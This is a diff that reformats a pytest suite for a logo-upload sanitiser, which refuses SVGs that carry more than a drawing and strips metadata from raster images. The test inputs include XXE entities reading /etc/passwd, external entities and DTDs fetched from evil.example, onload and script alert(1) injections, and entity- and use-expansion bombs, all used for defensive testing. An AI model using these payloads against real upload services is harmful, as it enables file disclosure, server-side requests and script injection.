@@ -57,9 +57,18 @@ GRADIENT = '<linearGradient id="g"><stop stop-color="red"/></linearGradient>'
         f'<defs>{GRADIENT}</defs><path d="M0 0h9v9z" fill="url(#g)"/>',
         f'<style>.a{{fill:url(#g)}}</style>{GRADIENT}<rect class="a" width="9" height="9"/>',
         '<symbol id="s"><circle r="9"/></symbol><use href="#s"/><use xlink:href="#s" x="9"/>',
-        '<clipPath id="c"><rect width="5" height="5"/></clipPath><g clip-path="url(#c)"><circle r="9"/></g>',
-        '<title>Ours</title><metadata><x xmlns="urn:x" onload="y">z</x></metadata><rect width="9" height="9"/>',
-        '<sodipodi:namedview xmlns:sodipodi="urn:s" a="http://x.example/"/><circle r="9" style="fill:red"/>',
+        (
+            '<clipPath id="c"><rect width="5" height="5"/></clipPath><g clip-path="url(#c)"><circle'
+            ' r="9"/></g>'
+        ),
+        (
+            '<title>Ours</title><metadata><x xmlns="urn:x" onload="y">z</x></metadata><rect'
+            ' width="9" height="9"/>'
+        ),
+        (
+            '<sodipodi:namedview xmlns:sodipodi="urn:s" a="http://x.example/"/><circle r="9"'
+            ' style="fill:red"/>'
+        ),
     ],
     ids=["gradient", "style", "use", "clip", "notes", "editor"],
 )
@@ -68,7 +77,10 @@ def test_what_drawing_programs_write_is_drawn(inside: str) -> None:
 
 
 def test_a_doctype_alone_does_no_harm() -> None:
-    doctype = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
+    doctype = (
+        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"'
+        b' "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
+    )
     assert picture(b'<?xml version="1.0" encoding="utf-8"?>' + doctype + svg()).format == "PNG"
 
 
@@ -84,14 +96,20 @@ PARTS = "too many parts"
     ("upload", "words"),
     [
         (b'<!DOCTYPE svg [<!ENTITY a "b">]>' + svg(), ENTITIES),
-        (b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg("<desc>&a;</desc>"), ENTITIES),
+        (
+            b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg("<desc>&a;</desc>"),
+            ENTITIES,
+        ),
         (b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>' + svg(), ENTITIES),
         (b'<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">' + svg("<desc>&a;</desc>"), ENTITIES),
         (svg("<desc>&a;</desc>"), UNREAD),
         (svg("<script>alert(1)</script>"), SCRIPT),
         (svg('<rect width="9" height="9" onclick="alert(1)"/>'), SCRIPT),
         (svg("<rect/>", HEAD + ' onload="alert(1)"'), SCRIPT),
-        (svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'), SCRIPT),
+        (
+            svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'),
+            SCRIPT,
+        ),
         (svg('<rect><animate attributeName="x"/></rect>'), SCRIPT),
         (svg('<set attributeName="x"/>'), SCRIPT),
         (svg('<image href="http://evil.example/x.png"/>'), OUTSIDE),
@@ -126,30 +144,51 @@ PARTS = "too many parts"
         (svg("\xff").replace("\xff".encode(), b"\xff"), UNREAD),
         (svg(head='<svg xmlns="http://www.w3.org/2000/svg"'), "how large it is"),
         (svg(head='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 0"'), "how large it is"),
-        (svg(head='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 nan 1"'), "how large it is"),
-        (svg(head='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e99 1e99"'), "how large it is"),
-        (svg(head='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9000 1"'), "too long and narrow"),
+        (
+            svg(head='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 nan 1"'),
+            "how large it is",
+        ),
+        (
+            svg(head='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e99 1e99"'),
+            "how large it is",
+        ),
+        (
+            svg(head='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9000 1"'),
+            "too long and narrow",
+        ),
         (svg(""), "nothing to be seen"),
     ],
 )
-def test_an_svg_that_is_more_than_a_drawing_is_refused_and_told_why(upload: bytes, words: str) -> None:
+def test_an_svg_that_is_more_than_a_drawing_is_refused_and_told_why(
+    upload: bytes, words: str
+) -> None:
     with pytest.raises(InvalidLogo, match=words):
         prepare_logo(upload)
 
 
-def test_a_drawing_that_multiplies_itself_is_refused_before_it_is_drawn(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_drawing_that_multiplies_itself_is_refused_before_it_is_drawn(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     monkeypatch.setattr("artifacts.uploads.svg._draw", lambda *_: pytest.fail("it was drawn"))
-    levels = "".join(f'<g id="g{n}">{f"""<use href="#g{n - 1}"/>""" * 10 if n else "<rect/>"}</g>' for n in range(10))
+    levels = "".join(
+        f'<g id="g{n}">{f"""<use href="#g{n - 1}"/>""" * 10 if n else "<rect/>"}</g>'
+        for n in range(10)
+    )
     heavy = f'<defs><path id="p" d="{"M0 0L9 9" * 20_000}"/></defs>{"""<use href="#p"/>""" * 50}'
     for inside in (levels, heavy):
         with pytest.raises(InvalidLogo, match="too many parts"):
             prepare_logo(svg(inside))
 
 
-def test_a_drawing_that_brings_its_process_down_or_takes_for_ever_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_drawing_that_brings_its_process_down_or_takes_for_ever_is_refused(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     monkeypatch.setattr(svg_worker, "SECONDS", -4)
     dots = (f"L{n * 7919 % 1000} {n * 104729 % 1000}" for n in range(40_000))
-    busy = f'<path fill="none" stroke="red" stroke-width="400" stroke-linejoin="round" d="M0 0{"".join(dots)}"/>'
+    busy = (
+        '<path fill="none" stroke="red" stroke-width="400" stroke-linejoin="round" d="M0'
+        f' 0{"".join(dots)}"/>'
+    )
     with pytest.raises(InvalidLogo, match="could not be drawn"):
         prepare_logo(svg(busy, '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1000 1000"'))
 
@@ -199,7 +238,10 @@ def test_notes_places_and_whatever_follows_the_picture_are_not_kept() -> None:
     notes.add_text("Comment", "SECRET")
     exif = Image.Exif()
     exif[0x010E] = "SECRET"
-    for upload in (raster(pnginfo=notes) + b"SECRET", raster("JPEG", exif=exif, comment=b"SECRET") + b"<script>SECRET"):
+    for upload in (
+        raster(pnginfo=notes) + b"SECRET",
+        raster("JPEG", exif=exif, comment=b"SECRET") + b"<script>SECRET",
+    ):
         assert b"SECRET" in upload
         assert b"SECRET" not in prepare_logo(upload)
 
@@ -222,7 +264,7 @@ def test_a_picture_that_is_hard_to_press_gets_smaller_until_it_fits() -> None:
 @pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "I;16", "CMYK"])
 def test_every_kind_of_pixel_is_taken(mode: str) -> None:
     file = io.BytesIO()
-    Image.new("RGBA", (40, 40), (9, 90, 70, 255)).convert("RGB").convert("L" if mode == "I;16" else mode).convert(
-        mode
-    ).save(file, "JPEG" if mode == "CMYK" else "PNG")
+    Image.new("RGBA", (40, 40), (9, 90, 70, 255)).convert("RGB").convert(
+        "L" if mode == "I;16" else mode
+    ).convert(mode).save(file, "JPEG" if mode == "CMYK" else "PNG")
     assert picture(file.getvalue()).size == (40, 40)
